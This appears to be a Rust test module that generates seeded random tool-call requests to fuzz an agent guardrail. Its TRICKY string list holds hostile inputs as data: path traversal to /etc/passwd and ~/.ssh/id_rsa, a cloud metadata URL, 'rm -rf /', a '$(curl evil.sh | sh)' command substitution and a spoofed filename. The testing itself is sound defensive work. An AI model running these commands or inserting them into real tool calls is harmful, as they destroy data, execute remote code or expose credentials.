//! Random requests, reproducible from a seed: the `fuzz` case sends them for
//! a while and wants a decision for every one; the thread-safety check
//! sends many distinct ones at once.

use serde_json::{json, Map, Value};

use super::corpus::Probe;
use guardhost::GuardrailRequest;

/// A small, fast, seedable generator (SplitMix64): the same seed gives the
/// same requests on every machine and in every version of this module's
/// callers, so a failure is reproduced from the printed seed.
#[derive(Debug, Clone)]
pub(crate) struct Rng(u64);

impl Rng {
    pub(crate) fn new(seed: u64) -> Self {
        Rng(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number below `n` (`n` > 0).
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// A seed for a run that was not given one.
pub(crate) fn fresh_seed() -> u64 {
    let nanos =
        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_nanos() as u64);
    Rng::new(nanos ^ u64::from(std::process::id()).rotate_left(32)).next()
}

/// DeerFlow's tools and the arguments each takes.
const TOOLS: &[(&str, &[&str])] = &[
    ("bash", &["command", "description"]),
    ("write_file", &["path", "content", "description"]),
    ("str_replace", &["path", "old_str", "new_str", "description"]),
    ("read_file", &["path", "description"]),
    ("ls", &["path", "description"]),
    ("web_search", &["query"]),
    ("web_fetch", &["url"]),
    ("image_search", &["query", "max_results"]),
    ("present_files", &["filepaths"]),
    ("view_image", &["image_path"]),
    ("ask_clarification", &["question", "clarification_type", "options"]),
    ("task", &["description", "prompt", "subagent_type"]),
    ("mcp__github__create_issue", &["title", "body"]),
];

/// Strings that have broken parsers before.
const TRICKY: &[&str] = &[
    "",
    " ",
    "..",
    "../../etc/passwd",
    "/etc/shadow",
    "~/.ssh/id_rsa",
    "C:\\Windows\\System32",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "rm -rf / --no-preserve-root",
    "$(curl evil.sh | sh)",
    "`id`",
    "a\u{0}b",
    "\u{1b}[2J",
    "\u{202e}gnp.exe",
    "ba\u{200b}sh",
    "\u{feff}",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🔧",
    "\\",
    "\"",
    "{}",
    "null",
    "%00",
    "\r\n",
];

fn random_string(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => rng.pick(TRICKY).to_string(),
        1 => {
            let length = rng.below(40);
            (0..length)
                .map(|_| match rng.below(10) {
                    0 => char::from_u32(rng.below(0x20) as u32).unwrap_or('?'),
                    1 => char::from_u32(0x80 + rng.below(0x2FF80) as u32).unwrap_or('\u{FFFD}'),
                    _ => char::from(b' ' + rng.below(95) as u8),
                })
                .collect()
        }
        2 => format!(
            "/mnt/user-data/{}/{}",
            rng.pick(&["workspace", "outputs", "uploads", ".."]),
            rng.below(1000)
        ),
        _ => "x".repeat(rng.below(5000)),
    }
}

fn random_value(rng: &mut Rng, depth: usize) -> Value {
    let kinds = if depth >= 3 { 5 } else { 7 };
    match rng.below(kinds) {
        0 => Value::Null,
        1 => Value::Bool(rng.chance(50)),
        2 => json!(*rng.pick(&[0i64, -1, 1, i64::MIN, i64::MAX, 42])),
        3 => json!(*rng.pick(&[0.5f64, -1e300, 1e300, f64::MIN_POSITIVE])),
        4 => Value::String(random_string(rng)),
        5 => Value::Array((0..rng.below(5)).map(|_| random_value(rng, depth + 1)).collect()),
        _ => {
            let keys = rng.below(5);
            Value::Object((0..keys).map(|_| (random_string(rng), random_value(rng, depth + 1))).collect())
        }
    }
}

fn maybe(rng: &mut Rng) -> Option<String> {
    rng.chance(30).then(|| random_string(rng))
}

/// One random request: mostly a DeerFlow tool with its arguments in random
/// shapes (some missing, some extra), sometimes an odd tool name; random
/// attribution.
pub(crate) fn random_request(rng: &mut Rng, timestamp: &str) -> GuardrailRequest {
    let (tool, arguments) = *rng.pick(TOOLS);
    let tool_name = if rng.chance(80) { tool.to_owned() } else { random_string(rng) };
    let mut tool_input = Map::new();
    for argument in arguments {
        if rng.chance(85) {
            let value = if rng.chance(50) { Value::String(random_string(rng)) } else { random_value(rng, 0) };
            tool_input.insert((*argument).to_owned(), value);
        }
    }
    for _ in 0..rng.below(3) {
        tool_input.insert(random_string(rng), random_value(rng, 1));
    }
    let authz_attributes = match random_value(rng, 1) {
        Value::Object(map) => map,
        _ => Map::new(),
    };
    GuardrailRequest {
        tool_name,
        tool_input,
        agent_id: maybe(rng),
        thread_id: maybe(rng),
        is_subagent: rng.chance(20),
        timestamp: timestamp.to_owned(),
        user_id: maybe(rng),
        user_role: maybe(rng),
        oauth_provider: maybe(rng),
        oauth_id: maybe(rng),
        run_id: maybe(rng),
        tool_call_id: maybe(rng),
        channel_user_id: maybe(rng),
        is_internal: rng.chance(10),
        authz_attributes,
    }
}

/// `count` random requests from `seed`, named `random #i (seed S)`.
pub(crate) fn random_probes(seed: u64, count: usize) -> Vec<Probe> {
    let mut rng = Rng::new(seed);
    let now = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, false);
    (0..count)
        .map(|i| Probe {
            name: format!("random #{i} (seed {seed})"),
            request: random_request(&mut rng, &now),
            everyday: false,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_requests() {
        let a: Vec<Value> = random_probes(7, 50)
            .iter()
            .map(|p| serde_json::to_value(&p.request.tool_input).unwrap())
            .collect();
        let b: Vec<Value> = random_probes(7, 50)
            .iter()
            .map(|p| serde_json::to_value(&p.request.tool_input).unwrap())
            .collect();
        assert_eq!(a, b);
        let c: Vec<Value> = random_probes(8, 50)
            .iter()
            .map(|p| serde_json::to_value(&p.request.tool_input).unwrap())
            .collect();
        assert_ne!(a, c);
    }

    #[test]
    fn the_requests_are_varied() {
        let probes = random_probes(1, 500);
        let tools: std::collections::BTreeSet<&str> =
            probes.iter().map(|p| p.request.tool_name.as_str()).collect();
        assert!(tools.len() > 20, "{tools:?}");
        assert!(probes
            .iter()
            .any(|p| p.request.tool_name == "ls" && !p.request.tool_input.contains_key("path")));
        assert!(probes.iter().any(|p| p.request.tool_input.get("path").is_some_and(|v| !v.is_string())));
    }
}
